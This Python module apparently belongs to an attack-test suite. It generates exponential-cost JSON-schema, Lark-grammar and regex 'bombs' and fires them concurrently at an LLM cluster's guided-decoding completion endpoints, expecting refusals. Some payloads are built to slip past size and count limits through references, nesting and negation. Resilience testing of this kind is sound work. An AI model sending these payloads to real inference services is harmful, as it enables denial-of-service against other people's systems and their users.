"""Bombs: small schemas and grammars that take exponential time or memory to check or to compile.

Every run makes new ones, so that an answer remembered for an earlier one does not help the cluster.
"""

from __future__ import annotations

import itertools
import json
from collections import Counter
from collections.abc import Callable, Sequence
from typing import Any

from tools.attacks.target import Attack, AttackedCluster, post, together, unlimited_session

REFUSED = frozenset({"400", "429"})
_SERIAL = itertools.count()
_PATTERN = "(a|b)*c{%d}(a|b)*"


def conjunction(patterns: int, serial: int) -> dict[str, Any]:
    """Return a schema whose number of states doubles with each of its patterns."""
    return {
        "allOf": [{"type": "string", "pattern": _PATTERN % (at + 1)} for at in range(patterns)],
        "description": f"{serial}",
    }


def scattered_conjunction(patterns: int, serial: int) -> dict[str, Any]:
    """Return the same with its patterns behind references and in allOf within allOf, where a count may miss them."""
    schema: dict[str, Any] = {"type": "string"}
    names = [f"s{serial}_{at}" for at in range(patterns)]
    definitions = {name: {"type": "string", "pattern": _PATTERN % (at + 1)} for at, name in enumerate(names)}
    for name in names:
        schema = {"allOf": [{"$ref": f"#/$defs/{name}"}, schema]}
    return {"type": "object", "properties": {"x": schema}, "required": ["x"], "$defs": definitions}


def schema_bomb(patterns: int, serial: int) -> str:
    """Return a scattered conjunction as text: it keeps to all limits on its size."""
    return json.dumps(scattered_conjunction(patterns, serial))


def lark_conjunction(terms: int, serial: int) -> str:
    """Return a Lark grammar of one terminal, the conjunction of all its terms."""
    return "start: T\nT: " + " & ".join(f"/.*{chr(97 + at % 26)}{at}x{serial}.*/" for at in range(terms))


def lark_negation(terms: int, serial: int) -> str:
    """Return the same conjunction by De Morgan's law, without an `&`."""
    parts = " | ".join(f"~/.*{chr(97 + at % 26)}{at}x{serial}.*/" for at in range(terms))
    return f"start: T\nT: ~({parts})"


def lark_nested(terms: int, serial: int) -> str:
    """Return the same conjunction over a chain of terminals, each of two terms."""
    lines = ["start: T0"]
    for at in range(terms):
        rest = f" & T{at + 1}" if at + 1 < terms else ""
        lines.append(f"T{at}: /.*{chr(97 + at % 26)}{at}x{serial}.*/{rest}")
    return "\n".join(lines)


def late_bomb(depth: int, serial: int) -> str:
    """Return a Lark grammar that is cheap to compile and takes seconds for the token after `x;`."""
    alternatives = " | ".join(" ".join("s" for _ in range(count)) for count in range(2, depth))
    return f'start: "x;" s "{serial}"\ns: {alternatives} | /-/ | '


def many_patterns(patterns: int, serial: int) -> dict[str, Any]:
    """Return a schema of alternatives that are expensive each."""
    return {"anyOf": [{"type": "string", "pattern": f"^(.*a{at}x{serial}.*b){{3}}$"} for at in range(patterns)]}


def exponential_regex(length: int, serial: int) -> str:
    """Return a regex whose deterministic automaton has 2^length states."""
    return f"(a|b|c|d|e| )*a(a|b|c|d|e| ){{{length}}}x{serial}"


def _tool(schema: Any) -> dict[str, Any]:
    return {"type": "function", "function": {"name": "f", "parameters": schema, "strict": True}}


def _guided(field: str, make: Callable[[int, int], Any], size: int) -> Callable[[], tuple[str, dict[str, Any]]]:
    return lambda: (
        "/v1/completions",
        {"prompt": "a", "max_tokens": 3, field: make(size, next(_SERIAL))},
    )


def _in_tool(make: Callable[[int, int], Any], size: int) -> Callable[[], tuple[str, dict[str, Any]]]:
    def request() -> tuple[str, dict[str, Any]]:
        schema = {"type": "object", "properties": {"x": make(size, next(_SERIAL))}, "required": ["x"]}
        chat = {"messages": [{"role": "user", "content": "x"}], "max_tokens": 3}
        return "/v1/chat/completions", chat | {"tools": [_tool(schema)], "tool_choice": "required"}

    return request


def _in_response_format(make: Callable[[int, int], Any], size: int) -> Callable[[], tuple[str, dict[str, Any]]]:
    def request() -> tuple[str, dict[str, Any]]:
        schema = {"name": "x", "schema": make(size, next(_SERIAL)), "strict": True}
        chat = {"messages": [{"role": "user", "content": "x"}], "max_tokens": 3}
        return "/v1/chat/completions", chat | {"response_format": {"type": "json_schema", "json_schema": schema}}

    return request


Maker = Callable[[], tuple[str, dict[str, Any]]]


def _attack(name: str, description: str, makers: Sequence[Maker], expected: frozenset[str] = REFUSED) -> Attack:
    async def run(target: AttackedCluster) -> Counter[str]:
        async with unlimited_session() as session:
            return await together([post(session, target, *make(), within_s=30.0) for make in makers])

    return Attack(name, description, run, expected, within_s=70.0)


SCHEMAS = _attack(
    "schema bombs",
    "2 schemas of 24 conjoined patterns (1 KB) at once",
    [_guided("guided_json", conjunction, 24)] * 2,
)
SCATTERED_SCHEMAS = _attack(
    "scattered schema bombs",
    "4 of them at once, behind references, in a tool and in a response format",
    [
        _guided("guided_json", scattered_conjunction, 24),
        _in_tool(conjunction, 24),
        _in_response_format(conjunction, 24),
        _guided("guided_json", scattered_conjunction, 22),
    ],
)
GRAMMARS = _attack(
    "grammar bombs",
    "2 Lark grammars of 400 conjoined terms (5 KB) at once",
    [_guided("guided_grammar", lark_conjunction, 400)] * 2,
)
SCATTERED_GRAMMARS = _attack(
    "scattered grammar bombs",
    "the same by negations and over a chain of terminals",
    [_guided("guided_grammar", lark_negation, 400), _guided("guided_grammar", lark_nested, 200)],
)
AUTOMATA = _attack(
    "exponential automata",
    "4 regexes of 2^20 states and 4 schemas of 400 alternatives at once",
    [*[_guided("guided_regex", exponential_regex, 20)] * 4, *[_guided("guided_json", many_patterns, 400)] * 4],
    REFUSED | {"200"},
)
LATE = _attack(
    "late grammar bombs",
    "2 Lark grammars that are cheap to compile and take seconds at the second token",
    [_guided("guided_grammar", late_bomb, 60)] * 2,
    REFUSED | {"200"},
)
ATTACKS = (SCHEMAS, SCATTERED_SCHEMAS, GRAMMARS, SCATTERED_GRAMMARS, AUTOMATA, LATE)
